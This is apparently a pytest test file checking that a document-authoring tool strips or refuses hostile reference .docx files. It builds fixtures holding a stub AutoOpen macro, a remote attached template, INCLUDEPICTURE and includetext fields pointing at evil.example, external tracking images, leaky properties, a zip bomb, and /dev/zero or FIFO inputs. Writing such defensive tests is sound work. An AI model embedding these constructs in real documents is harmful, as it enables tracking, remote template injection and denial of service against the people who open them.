"""Hostile house styles (`--reference-docx`): zip bombs, devices, macros, remote templates.

Each fixture is built here with zipfile from a plain python-docx document. Oversized or
non-regular files are refused with exit 2 in well under a second, before anything is parsed;
macros, external links, customXml, OLE and active fields are left out of every output and the
user is told once.
"""

from __future__ import annotations

import io
import os
import time
import zipfile
from collections.abc import Callable
from pathlib import Path

import docx
import pytest

from svauthor.cli import main
from svauthor.docs import housestyle

from .conftest import EXAMPLES

SPEC = str(EXAMPLES / "wirral-befriending.yaml")
EVIL = "evil.example"
R_NS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def plain_docx() -> bytes:
    d = docx.Document()
    d.sections[0].header.paragraphs[0].text = "ACME Council - OFFICIAL"
    out = io.BytesIO()
    d.save(out)
    return out.getvalue()


def rewrite(data: bytes, edit: Callable[[dict[str, bytes]], None]) -> bytes:
    with zipfile.ZipFile(io.BytesIO(data)) as src:
        parts = {n: src.read(n) for n in src.namelist()}
    edit(parts)
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for name, payload in parts.items():
            dst.writestr(name, payload)
    return out.getvalue()


def add_rel(parts: dict[str, bytes], rels: str, rel_id: str, rel_type: str, target: str,
            external: bool = False) -> None:
    mode = ' TargetMode="External"' if external else ""
    rel = (f'<Relationship Id="{rel_id}" Type="{R_NS}/{rel_type}" Target="{target}"{mode}/>')
    base = parts.get(rels, b'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns='
                     b'"http://schemas.openxmlformats.org/package/2006/relationships">'
                     b'</Relationships>')
    parts[rels] = base.replace(b"</Relationships>", rel.encode() + b"</Relationships>")


def hostile(parts: dict[str, bytes]) -> None:
    """Macros, a remote attached template, OLE, external links and a fetching field."""
    ct = parts["[Content_Types].xml"]
    ct = ct.replace(b"wordprocessingml.document.main+xml", b"wordprocessingml.template.main+xml")
    ct = ct.replace(b"</Types>", b'<Default Extension="bin" ContentType="application/'
                    b'vnd.ms-office.vbaProject"/><Override PartName="/word/vbaProject.bin" '
                    b'ContentType="application/vnd.ms-office.vbaProject"/></Types>')
    parts["[Content_Types].xml"] = ct
    parts["word/vbaProject.bin"] = b"Attribute VB_Name = \"AutoOpen\" Shell(\"calc\")"
    add_rel(parts, "word/_rels/document.xml.rels", "rId90", "vbaProject", "vbaProject.bin")
    parts["word/embeddings/oleObject1.bin"] = b"OLE payload"
    add_rel(parts, "word/_rels/document.xml.rels", "rId91", "oleObject", "embeddings/oleObject1.bin")
    add_rel(parts, "word/_rels/settings.xml.rels", "rId1", "attachedTemplate",
            f"http://{EVIL}/template.dotm", external=True)
    parts["word/settings.xml"] = parts["word/settings.xml"].replace(
        b"<w:zoom", f'<w:attachedTemplate xmlns:r="{R_NS}" r:id="rId1"/><w:zoom'.encode(), 1)
    add_rel(parts, "word/_rels/header1.xml.rels", "rId5", "hyperlink", f"http://{EVIL}/x",
            external=True)
    add_rel(parts, "word/_rels/header1.xml.rels", "rId6", "image", f"http://{EVIL}/pixel.png",
            external=True)
    parts["word/header1.xml"] = parts["word/header1.xml"].replace(
        b"</w:p></w:hdr>",
        f'<w:hyperlink xmlns:r="{R_NS}" r:id="rId5"><w:r><w:t>link</w:t></w:r></w:hyperlink>'
        f'<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> INCLUDEPICTURE '
        f'"http://{EVIL}/track.png" \\d </w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/>'
        f'</w:r><w:r><w:pict><v:imagedata xmlns:v="urn:schemas-microsoft-com:vml" '
        f'xmlns:r="{R_NS}" r:id="rId6"/></w:pict></w:r></w:p></w:hdr>'.encode())
    parts["customXml/item9.xml"] = f"<secret>http://{EVIL}/data</secret>".encode()


def build(capsys: pytest.CaptureFixture[str], tmp_path: Path, ref: Path) -> tuple[int, str, float]:
    start = time.perf_counter()
    code = main(["build", SPEC, "-o", str(tmp_path / "out"), "--reference-docx", str(ref),
                 "--today", "2026-11-27"])
    elapsed = time.perf_counter() - start
    out, err = capsys.readouterr()
    assert "Traceback" not in out + err and "internal problem" not in err
    return code, err, elapsed


def test_macros_remote_template_ole_and_external_links_are_left_out(
        capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
    ref = tmp_path / "house.dotm"
    ref.write_bytes(rewrite(plain_docx(), hostile))
    code, err, _ = build(capsys, tmp_path, ref)
    assert code in (0, 1), err
    notes = [line for line in err.splitlines() if line.startswith("note: ") and "left out" in line]
    assert len(notes) == 1, err  # told once, not once per document
    for words in ("macros", "attached template", "external links", "customXml",
                  "embedded objects", "active fields"):
        assert words in notes[0], notes[0]
    outputs = sorted((tmp_path / "out").glob("*.docx"))
    assert len(outputs) >= 4
    for path in outputs:
        with zipfile.ZipFile(path) as z:
            names = z.namelist()
            blob = b"".join(z.read(n) for n in names)
        assert not any("vba" in n.lower() or n.startswith("customXml/") or "embeddings" in n
                       for n in names), names
        assert EVIL.encode() not in blob and b"attachedTemplate" not in blob
        assert b"INCLUDEPICTURE" not in blob and b"vbaProject" not in blob
        d = docx.Document(str(path))
        assert d.sections[0].header.paragraphs[0].text.startswith("ACME Council - OFFICIAL")


def zip_bomb(path: Path) -> None:
    """A small file whose zip directory declares more than the cap (as a real bomb does)."""
    data = rewrite(plain_docx(), lambda parts: parts.update({"word/media/image1.png": b"x"}))
    declared = (housestyle.MAX_UNCOMPRESSED_BYTES + 1).to_bytes(4, "little")
    central = data.rindex(b"PK\x01\x02")  # the last entry's central directory record
    data = data[:central + 24] + declared + data[central + 28:]
    path.write_bytes(data)


def many_entries(path: Path) -> None:
    path.write_bytes(rewrite(plain_docx(), lambda parts: parts.update(
        {f"word/media/i{i}.png": b"" for i in range(housestyle.MAX_ENTRIES + 1)})))


def dev_zero(path: Path) -> None:
    path.symlink_to("/dev/zero")


def fifo(path: Path) -> None:
    os.mkfifo(path)


def huge(path: Path) -> None:
    with open(path, "wb") as fh:  # sparse: no disk used
        fh.truncate(housestyle.MAX_FILE_BYTES + 1)


@pytest.mark.parametrize(("make", "words"), [
    (zip_bomb, "zip bomb"),
    (many_entries, "parts; a house style has at most"),
    (dev_zero, "not a regular file"),
    (fifo, "not a regular file"),
    (huge, "a house style may be at most"),
])
def test_oversized_or_irregular_house_styles_are_refused_fast(
        capsys: pytest.CaptureFixture[str], tmp_path: Path, make: Callable[[Path], None],
        words: str) -> None:
    ref = tmp_path / "house.docx"
    make(ref)
    code, err, elapsed = build(capsys, tmp_path, ref)
    assert code == 2 and words in err and str(ref) in err, err
    assert elapsed < 1.0
    assert not (tmp_path / "out").exists()


def test_sanitise_keeps_what_a_house_style_needs() -> None:
    clean = housestyle.sanitise(plain_docx(), "house.docx")
    with zipfile.ZipFile(io.BytesIO(clean.data)) as z:
        names = set(z.namelist())
    assert {"word/styles.xml", "word/numbering.xml", "word/theme/theme1.xml",
            "word/header1.xml", "word/settings.xml", "word/fontTable.xml"} <= names
    assert not any(n.startswith("customXml/") or "thumbnail" in n for n in names)
    assert clean.dropped == ["customXml data", "the thumbnail picture"]


def split_field_and_remote_pictures(parts: dict[str, bytes]) -> None:
    """A fetching field split over two instruction runs, one nested in a QUOTE field, a VML
    picture with remote `src`/`o:href`, and leaky file properties (R1, R2)."""
    split = ('<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
             '<w:r><w:instrText xml:space="preserve"> INCL</w:instrText></w:r>'
             f'<w:r><w:instrText xml:space="preserve">UDEPICTURE "http://{EVIL}/split.png" \\d '
             '</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r>'
             '<w:r><w:t>SHOWN</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>')
    nested = ('<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
              '<w:r><w:instrText xml:space="preserve"> QUOTE </w:instrText></w:r>'
              '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
              f'<w:r><w:instrText xml:space="preserve"> includetext "\\\\\\\\{EVIL}\\\\share\\\\x" '
              '</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>'
              '<w:r><w:fldChar w:fldCharType="end"/></w:r>')
    page = ('<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
            '<w:r><w:instrText xml:space="preserve"> PAGE </w:instrText></w:r>'
            '<w:r><w:fldChar w:fldCharType="end"/></w:r>')
    vml = ('<w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml" '
           'xmlns:o="urn:schemas-microsoft-com:office:office" style="width:9pt;height:9pt">'
           f'<v:imagedata src="http://{EVIL}/vml.png" o:href="file://{EVIL}/href.png"/>'
           '</v:shape></w:pict></w:r>')
    parts["word/header1.xml"] = parts["word/header1.xml"].replace(
        b"</w:p>", (split + nested + page + vml + "</w:p>").encode(), 1)
    parts["docProps/app.xml"] = parts["docProps/app.xml"].replace(
        b"</Properties>", f"<Company>LEAKY CORP</Company><Manager>A Manager</Manager>"
        f"<HyperlinkBase>http://{EVIL}/base/</HyperlinkBase></Properties>".encode())
    parts["docProps/core.xml"] = parts["docProps/core.xml"].replace(
        b"</cp:coreProperties>", b"<cp:contentStatus>INTERNAL ONLY</cp:contentStatus>"
        b"<dc:identifier>LEAK-ID</dc:identifier><cp:version>LEAK-VERSION</cp:version>"
        b"</cp:coreProperties>")


def test_split_and_nested_fetching_fields_remote_pictures_and_properties_are_dropped(
        capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
    ref = tmp_path / "house.docx"
    ref.write_bytes(rewrite(plain_docx(), split_field_and_remote_pictures))
    code, err, _ = build(capsys, tmp_path, ref)
    assert code in (0, 1), err
    assert "active fields" in err
    outputs = sorted((tmp_path / "out").glob("*.docx"))
    assert len(outputs) >= 4
    for path in outputs:
        with zipfile.ZipFile(path) as z:
            blob = b"".join(z.read(n) for n in z.namelist())
            header = b"".join(z.read(n) for n in z.namelist() if n.startswith("word/header"))
        for leak in (EVIL.encode(), b"INCLUDEPICTURE", b"includetext", b"UDEPICTURE",
                     b"LEAKY CORP", b"A Manager", b"HyperlinkBase", b"INTERNAL ONLY",
                     b"LEAK-ID", b"LEAK-VERSION"):
            assert leak not in blob, (path.name, leak)
        assert b" PAGE " in header  # an ordinary field is kept
        assert b" QUOTE " not in header  # the field around a fetching one goes with it
        d = docx.Document(str(path))
        assert d.core_properties.title  # svauthor's own properties are still written
